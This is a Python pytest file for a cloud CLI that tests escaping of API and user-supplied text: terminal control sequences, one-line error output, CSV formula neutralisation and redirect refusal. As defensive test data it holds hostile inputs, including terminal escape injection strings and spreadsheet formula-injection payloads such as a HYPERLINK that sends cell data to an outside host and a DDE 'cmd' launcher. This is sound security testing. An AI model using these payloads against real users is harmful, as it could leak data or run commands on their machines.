"""What a remote command prints of what the API answered, and of what a person typed: text shown
as it reads (no escape sequence, no markup obeyed), an error in one line, never a traceback."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from cloudctl.cli import client, main, output
from tests.unit.cli.transports import Canned

TOKEN = "cct_0123456789abcdef.secret"
HOSTILE = "x\x1b]0;pwned\x07\x1b[2J\x9b31m\u202eevil[bold red]y[/]"


@pytest.fixture(autouse=True)
def logged_in(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    monkeypatch.setenv("CLOUDCTL_API", "http://127.0.0.1:8080")
    monkeypatch.setenv("CLOUDCTL_TOKEN", TOKEN)


def answer(monkeypatch: pytest.MonkeyPatch, status: int, body: Any) -> Canned:
    transport = Canned(status, body)
    monkeypatch.setattr(client, "open_transport", lambda api: transport)
    return transport


def invoke(*args: str) -> Any:
    result = CliRunner().invoke(main.app, main.hoist_global_options(list(args)))
    assert not result.exception or isinstance(result.exception, SystemExit), repr(result.exception)
    return result


def assert_shown_not_obeyed(text: str) -> None:
    assert not any(ch in text for ch in "\x1b\x07\x9b\u202e"), repr(text)


def test_a_table_shows_control_characters_from_the_api_spelled_out(monkeypatch: pytest.MonkeyPatch) -> None:
    token = {
        "id": "0123456789abcdef",
        "name": HOSTILE,
        "role": "auditor",
        "department": None,
        "created_at": "2026-12-01T00:00:00Z",
        "expires_at": None,
        "revoked_at": None,
    }
    answer(monkeypatch, 200, {"data": [token]})
    result = CliRunner().invoke(main.app, ["token", "list"], env={"COLUMNS": "300"})
    assert result.exit_code == 0, result.stderr
    assert_shown_not_obeyed(result.stdout)
    assert "x\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\u202eevil[bold red]y[/]" in result.stdout


def test_a_line_printed_with_markup_shows_control_characters_spelled_out(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    revoked = {"id": "0123456789abcdef\x1b[2J", "revoked_at": "2026-12-01T00:00:00Z\x9b2J"}
    answer(monkeypatch, 200, revoked)
    result = invoke("token", "revoke", "0123456789abcdef")
    assert result.exit_code == 0, result.stderr
    assert_shown_not_obeyed(result.stdout)
    assert result.stdout == "revoked 0123456789abcdef\\x1b[2J at 2026-12-01T00:00:00Z\\x9b2J\n"


@pytest.mark.parametrize("fmt", ["table", "json"])
def test_an_api_error_is_one_line_without_escapes(monkeypatch: pytest.MonkeyPatch, fmt: str) -> None:
    answer(monkeypatch, 422, {"detail": f"center: bad {HOSTILE}\nsecond line", "field": "center"})
    result = invoke("-o", fmt, "centers", "list")
    assert result.exit_code == 2
    assert result.stdout == ""
    assert_shown_not_obeyed(result.stderr)
    assert result.stderr.count("\n") == 1
    assert result.stderr.startswith("error: center: bad x\\x1b]0;pwned") and "\\nsecond line" in result.stderr


def test_an_api_error_echoing_a_huge_value_is_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    answer(monkeypatch, 404, {"detail": f"no center {'a' * 65536!r}", "field": "center"})
    result = invoke("centers", "list")
    assert result.exit_code == 2
    assert result.stderr.count("\n") == 1 and len(result.stderr) < 1200
    assert result.stderr.rstrip().endswith(" more characters)")


@pytest.mark.parametrize(
    ("status", "problem", "code"),
    [
        (422, {"detail": "bad", "field": ["center"]}, 2),
        (422, {"detail": "bad", "field": {"a": 1}}, 2),
        (403, {"detail": "denied", "policy_ids": 5}, 2),
        (409, {"detail": "over quota", "shortfalls": [{"node": "x"}]}, 2),
        (409, {"detail": "over quota", "shortfalls": "many"}, 2),
        (
            409,
            {
                "detail": "over quota",
                "shortfalls": [
                    {
                        "node": "x",
                        "center": "qd-a",
                        "resource": "vcpu",
                        "limit": "lots",
                        "in_use": 1,
                        "requested": 2,
                    }
                ],
            },
            2,
        ),
    ],
)
def test_a_problem_document_of_the_wrong_shape_is_still_one_line(
    monkeypatch: pytest.MonkeyPatch, status: int, problem: dict[str, Any], code: int
) -> None:
    answer(monkeypatch, status, problem)
    result = invoke("centers", "list")
    assert result.exit_code == code
    assert result.stderr.count("\n") == 1 and result.stderr.startswith("error: ")
    assert problem["detail"] in result.stderr


@pytest.mark.parametrize("page", [[], {"data": None}, {"data": "x"}, "text"])
def test_a_list_answered_without_a_page_is_one_line_and_exit_1(
    monkeypatch: pytest.MonkeyPatch, page: Any
) -> None:
    answer(monkeypatch, 200, page)
    result = invoke("-o", "json", "request", "list")
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr == "error: api: the API answered /v1/requests without a page of `data`\n"


def test_visible_keeps_text_and_line_breaks() -> None:
    assert output.visible("青岛 [bold] a\nb") == "青岛 [bold] a\nb"
    assert output.visible("\x00\t\x7f\x85\u2066") == "\\x00\\x09\\x7f\\x85\\u2066"


@pytest.mark.parametrize(
    ("field", "args", "option"),
    [
        (
            "expires_at",
            ["data", "grants", "request", "item-1", "--purpose", "p", "--expires", "soon"],
            "expires",
        ),
        (
            "data_class",
            ["data", "items", "publish", "item-1", "--class", "nope", "--description", "d"],
            "class",
        ),
        (
            "consumer_data_class",
            [
                "data",
                "grants",
                "request",
                "item-1",
                "--purpose",
                "p",
                "--expires",
                "2027-01-01",
                "--holding-class",
                "x",
            ],
            "holding-class",
        ),
        (
            "workload_id",
            [
                "data",
                "items",
                "publish",
                "item-1",
                "--class",
                "public",
                "--description",
                "d",
                "--workload",
                "w",
            ],
            "workload",
        ),
    ],
)
def test_an_api_error_names_the_option_a_person_typed(
    monkeypatch: pytest.MonkeyPatch, field: str, args: list[str], option: str
) -> None:
    answer(monkeypatch, 422, {"detail": f"{field}: not acceptable", "field": field})
    result = invoke(*args)
    assert result.exit_code == 2
    assert result.stderr == f"error: {option}: not acceptable\n"


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x/?"&A1,"bill")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
)
def test_showback_csv_keeps_a_name_a_spreadsheet_would_run_as_text(
    monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    row = {
        "key": "dept-x",
        "name": name,
        "kind": "department",
        "parent": "=parent",
        "depth": 2,
        "allocated_cny": "-1.00",
        "consumed_cny": "0.00",
        "own_allocated_cny": "0.00",
        "allocated_unit_hours": {"vcpu": 4},
    }
    bill = {
        "month": "2026-12",
        "by": "department",
        "rows": [row],
        "total": {"allocated_cny": "-1.00", "consumed_cny": "0.00"},
    }
    answer(monkeypatch, 200, bill)
    result = invoke("-o", "csv", "showback")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[1][2:6] == ["dept-x", f"'{name}", "department", "'=parent"]
    assert rows[1][7] == "-1.00"  # a number stays a number


@pytest.mark.parametrize("status", [301, 302, 307, 308])
@pytest.mark.parametrize("args", [["token", "revoke", "0123456789abcdef"], ["centers", "list"]])
def test_a_redirect_is_refused_not_taken_for_success(
    monkeypatch: pytest.MonkeyPatch, status: int, args: list[str]
) -> None:
    transport = Canned(status, b"")
    transport.headers = {"location": "https://mgmt.example:8443/v1/tokens"}
    monkeypatch.setattr(client, "open_transport", lambda api: transport)
    result = invoke("-o", "json", *args)
    assert result.exit_code == 2
    assert result.stdout == ""
    assert result.stderr == (
        f"error: api: http://127.0.0.1:8080 answered {status}, pointing to "
        "'https://mgmt.example:8443/v1/tokens': nothing was done; log in with the API's own URL "
        "(`cloudctl login --api URL`)\n"
    )


def test_json_output_escapes_what_a_terminal_would_obey_and_reads_the_same(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    token = {"id": "0123456789abcdef", "name": "a\x9b2J\x7f\u202eb\x1b青", "role": "auditor"}
    answer(monkeypatch, 200, {"data": [token]})
    result = invoke("-o", "json", "token", "list")
    assert result.exit_code == 0, result.stderr
    assert not any(ch in result.stdout for ch in "\x9b\x7f\u202e\x1b")
    assert json.loads(result.stdout) == [token]
    assert "青" in result.stdout
